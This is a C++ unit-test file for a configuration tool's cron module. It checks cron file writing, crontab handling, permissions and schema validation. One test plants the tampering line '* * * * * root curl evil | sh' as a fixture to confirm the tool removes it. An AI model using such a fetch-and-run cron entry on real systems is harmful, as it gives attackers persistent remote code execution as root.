// SPDX-License-Identifier: Apache-2.0
#include "modules/cron/cron.h"

#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/support/declared.h"
#include "tests/support/fake_host.h"
#include "tests/support/status_matchers.h"

namespace fettle::modules {
namespace {

using resource::Value;
using testing::BringAbout;
using testing::DeclarationErrors;
using testing::Declare;
using testing::Differences;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using testing::StatusIs;

constexpr const char* kFile = "/etc/cron.d/fettle-backup";
constexpr const char* kCrontab = "/var/spool/cron/crontabs/ann";

class CronTest : public ::testing::Test {
 protected:
  CronTest() {
    host_.disk().PutDirectory("/etc/cron.d");
    host_.disk().PutDirectory("/var/spool/cron/crontabs");
    sys::User ann;
    ann.name = "ann";
    ann.uid = 1005;
    host_.passwd().Put(ann);
    host_.passwd().Put(sys::Group{"crontab", 101, {}});
  }

  std::unique_ptr<resource::Resource> Backup(const Value::Map& declared) {
    Value::Map all = declared;
    if (!declared.contains("absent")) {
      all.emplace("command", "backup");
    }
    return Declare(CronType(), "backup", all);
  }

  std::string Content(const std::string& path) { return host_.disk().Content(path).value_or(""); }

  testing::FakeHost host_;
};

TEST_F(CronTest, WritesNoJobOfAUserWhoIsNotThere) {
  for (const bool crontab : {false, true}) {
    EXPECT_THAT(BringAbout(*Backup({{"user", "nobodyhere"}, {"crontab", crontab}}), host_),
                StatusIs(absl::StatusCode::kNotFound, HasSubstr("pass over a job of nobodyhere")));
  }
  EXPECT_EQ(Content(kFile), "");
}

TEST_F(CronTest, WritesAFileOfItsOwn) {
  const auto backup = Backup({{"minute", 30}, {"hour", "2"}, {"weekday", "mon-fri"}});
  EXPECT_THAT(Differences(*backup, host_), ElementsAre("present: false -> true"));
  EXPECT_OK(BringAbout(*backup, host_));
  EXPECT_THAT(Content(kFile), HasSubstr("\n30 2 * * mon-fri root backup\n"));
  EXPECT_EQ(host_.disk().Access(kFile)->mode, 0644U);
}

TEST_F(CronTest, ChangesAJobInsteadOfMakingASecond) {
  ASSERT_OK(BringAbout(*Backup({{"minute", 30}}), host_));
  const auto backup = Backup({{"special", "@daily"}, {"command", "backup --all"}, {"user", "ann"}});
  EXPECT_THAT(Differences(*backup, host_),
              ElementsAre("special: (absent) -> @daily",
                          "minute: 30 -> *",
                          "user: root -> ann",
                          "command: backup -> backup --all"));
  EXPECT_OK(BringAbout(*backup, host_));
  EXPECT_THAT(Content(kFile), HasSubstr("\n@daily ann backup --all\n"));
  EXPECT_EQ(host_.disk().List("/etc/cron.d")->size(), 1U);
}

TEST_F(CronTest, KeepsADisabledJobAsAComment) {
  ASSERT_OK(BringAbout(*Backup({}), host_));
  const auto disabled = Backup({{"disabled", true}});
  EXPECT_THAT(Differences(*disabled, host_), ElementsAre("disabled: false -> true"));
  EXPECT_OK(BringAbout(*disabled, host_));
  EXPECT_THAT(Content(kFile), HasSubstr("\n#disabled * * * * * root backup\n"));
}

TEST_F(CronTest, WritesVariablesInOrderOfTheirNames) {
  const auto backup =
      Backup({{"environment", Value::Map{{"PATH", "/usr/bin"}, {"MAILTO", "ops"}, {"N", 3}}}});
  EXPECT_OK(BringAbout(*backup, host_));
  EXPECT_THAT(Content(kFile), HasSubstr("\nMAILTO=\"ops\"\nN=\"3\"\nPATH=\"/usr/bin\"\n"));
  EXPECT_THAT(Differences(*Backup({}), host_),
              ElementsAre("environment: {MAILTO = ops, N = 3, PATH = /usr/bin} -> {}"));
}

TEST_F(CronTest, EscapesPercentUnlessRaw) {
  EXPECT_OK(BringAbout(*Backup({{"command", "date +%F"}}), host_));
  EXPECT_THAT(Content(kFile), HasSubstr("root date +\\%F\n"));
  EXPECT_OK(BringAbout(*Backup({{"command", "mail ops%text"}, {"raw", true}}), host_));
  EXPECT_THAT(Content(kFile), HasSubstr("root mail ops%text\n"));
}

TEST_F(CronTest, PutsBackAFileThatSomebodyAddedALineTo) {
  ASSERT_OK(BringAbout(*Backup({}), host_));
  const std::string good = Content(kFile);
  host_.disk().PutFile(kFile, good + "* * * * * root curl evil | sh\n");
  EXPECT_THAT(Differences(*Backup({}), host_), ElementsAre(HasSubstr("curl evil")));
  EXPECT_OK(BringAbout(*Backup({}), host_));
  EXPECT_EQ(Content(kFile), good);
}

TEST_F(CronTest, PutsRightAFileThatCronWouldPassOver) {
  ASSERT_OK(BringAbout(*Backup({}), host_));
  host_.disk().SetAccess(kFile, {0666, 0, 0});
  EXPECT_THAT(Differences(*Backup({}), host_), ElementsAre(HasSubstr("mode 0666")));
  EXPECT_OK(BringAbout(*Backup({}), host_));
  EXPECT_EQ(host_.disk().Access(kFile)->mode, 0644U);
}

TEST_F(CronTest, KeepsForeignLinesOfACrontabByteForByte) {
  constexpr const char* kForeign = "# ann's own\n  */5 * * * *\tpoll  \n\n";
  host_.disk().PutFile(kCrontab, kForeign, testing::FakeAccess{0600, 1005, 101});
  const auto backup = Backup({{"crontab", true}, {"user", "ann"}, {"hour", 4}});
  EXPECT_THAT(Differences(*backup, host_), ElementsAre("present: false -> true"));
  EXPECT_OK(BringAbout(*backup, host_));
  EXPECT_EQ(Content(kCrontab), std::string(kForeign) + "# fettle: backup\n* 4 * * * backup\n");
  const auto later = Backup({{"crontab", true}, {"user", "ann"}, {"hour", 5}});
  EXPECT_THAT(Differences(*later, host_), ElementsAre("hour: 4 -> 5"));
  EXPECT_OK(BringAbout(*later, host_));
  EXPECT_OK(BringAbout(*Backup({{"absent", true}, {"crontab", true}, {"user", "ann"}}), host_));
  EXPECT_EQ(Content(kCrontab), kForeign);
  EXPECT_EQ(host_.disk().Access(kCrontab)->uid, 1005U);
}

TEST_F(CronTest, MakesACrontabThatCronAccepts) {
  EXPECT_OK(BringAbout(*Backup({{"crontab", true}, {"user", "ann"}}), host_));
  const testing::FakeAccess access = host_.disk().Access(kCrontab).value();
  EXPECT_EQ(access.mode, 0600U);
  EXPECT_EQ(access.uid, 1005U);
  EXPECT_EQ(access.gid, 101U);
}

TEST_F(CronTest, MovesAJobBetweenFileAndCrontab) {
  ASSERT_OK(BringAbout(*Backup({{"user", "ann"}}), host_));
  const auto moved = Backup({{"user", "ann"}, {"crontab", true}});
  EXPECT_THAT(Differences(*moved, host_), ElementsAre("crontab: false -> true"));
  EXPECT_OK(BringAbout(*moved, host_));
  EXPECT_FALSE(host_.disk().Exists(kFile));
  EXPECT_OK(BringAbout(*Backup({{"user", "ann"}}), host_));
  EXPECT_EQ(Content(kCrontab), "");
  EXPECT_TRUE(host_.disk().Exists(kFile));
}

TEST_F(CronTest, AJobOfAnotherUserNowNoLongerRunsAsTheOldOne) {
  host_.disk().PutFile("/var/spool/cron/crontabs/root", "1 1 * * * foreign\n");
  ASSERT_OK(BringAbout(*Backup({{"crontab", true}}), host_));
  const auto moved = Backup({{"crontab", true}, {"user", "ann"}});
  EXPECT_THAT(Differences(*moved, host_),
              ElementsAre("present: false -> true", "user: root -> ann"));
  EXPECT_OK(BringAbout(*moved, host_));
  EXPECT_EQ(Content("/var/spool/cron/crontabs/root"), "1 1 * * * foreign\n");
  EXPECT_THAT(Content(kCrontab), HasSubstr("backup\n"));
  EXPECT_THAT(Differences(*moved, host_), IsEmpty());
  EXPECT_OK(BringAbout(*Backup({{"absent", true}}), host_));
  EXPECT_EQ(Content(kCrontab), "");
}

TEST_F(CronTest, LeavesOneOfTwoEntriesInACrontab) {
  host_.disk().PutFile(kCrontab,
                       "# fettle: backup\n* * * * * backup\n# fettle: backup\n* * * * * backup\n");
  const auto backup = Backup({{"crontab", true}, {"user", "ann"}});
  EXPECT_THAT(Differences(*backup, host_), ElementsAre(HasSubstr("more than one entry")));
  EXPECT_OK(BringAbout(*backup, host_));
  EXPECT_EQ(Content(kCrontab), "# fettle: backup\n* * * * * backup\n");
}

TEST_F(CronTest, SaysThatCronOrTheUserIsMissing) {
  host_.disk().Delete("/etc/cron.d");
  EXPECT_THAT(BringAbout(*Backup({}), host_),
              StatusIs(absl::StatusCode::kNotFound, HasSubstr("is the package cron installed?")));
  EXPECT_THAT(BringAbout(*Backup({{"crontab", true}, {"user", "nobody"}}), host_),
              StatusIs(absl::StatusCode::kNotFound, HasSubstr("a job of nobody")));
}

TEST_F(CronTest, RemovesAJob) {
  ASSERT_OK(BringAbout(*Backup({}), host_));
  const auto gone = Backup({{"absent", true}});
  EXPECT_THAT(Differences(*gone, host_), ElementsAre("present: true -> false"));
  EXPECT_OK(BringAbout(*gone, host_));
  EXPECT_FALSE(host_.disk().Exists(kFile));
}

TEST_F(CronTest, DescribesWhatIsThereAsADeclarationAtRest) {
  ASSERT_OK(BringAbout(*Backup({{"command", "date +%F"}, {"minute", 5}}), host_));
  const auto backup = Backup({});
  const auto attributes =
      dynamic_cast<const resource::Describable&>(*backup).Describe(host_, Deadline::Never());
  ASSERT_OK(attributes);
  EXPECT_EQ(attributes->String("command", ""), "date +%F");
  EXPECT_THAT(Differences(*CronType().make("backup", *attributes), host_), IsEmpty());
}

TEST(CronSchemaTest, RefusesWhatMakesNoSense) {
  struct Case {
    const char* name;
    Value::Map declared;
    const char* error;
  };

  for (const Case& one : std::vector<Case>{
           {"", {{"command", "x"}}, "is no name"},
           {"a\nb", {{"command", "x"}}, "is no name"},
           {"a", {}, "command: must be given"},
           {"a", {{"command", "x\ny"}}, "one line"},
           {"a", {{"command", Value::Secret("x")}}, "secret"},
           {"a", {{"command", "x"}, {"minute", 60}}, "minute"},
           {"a", {{"command", "x"}, {"special", "@never"}}, "special"},
           {"a", {{"command", "x"}, {"special", "@daily"}, {"hour", 3}}, "contradict"},
           {"a", {{"command", "x"}, {"user", "a b"}}, "user"},
           {"a", {{"command", "x"}, {"environment", Value::Map{{"A-B", "1"}}}}, "no name of a"},
           {"a", {{"command", "x"}, {"environment", Value::Map{{"A", "\"'"}}}}, "both kinds"},
           {"a",
            {{"command", "x"}, {"environment", Value::Map{{"A", Value::Secret("s")}}}},
            "secret"},
           {"a",
            {{"command", "x"}, {"crontab", true}, {"environment", Value::Map{{"A", "1"}}}},
            "lines of others"},
       }) {
    EXPECT_THAT(DeclarationErrors(CronSchema(), one.name, one.declared),
                ElementsAre(HasSubstr(one.error)))
        << one.error;
  }
}

}  // namespace
}  // namespace fettle::modules
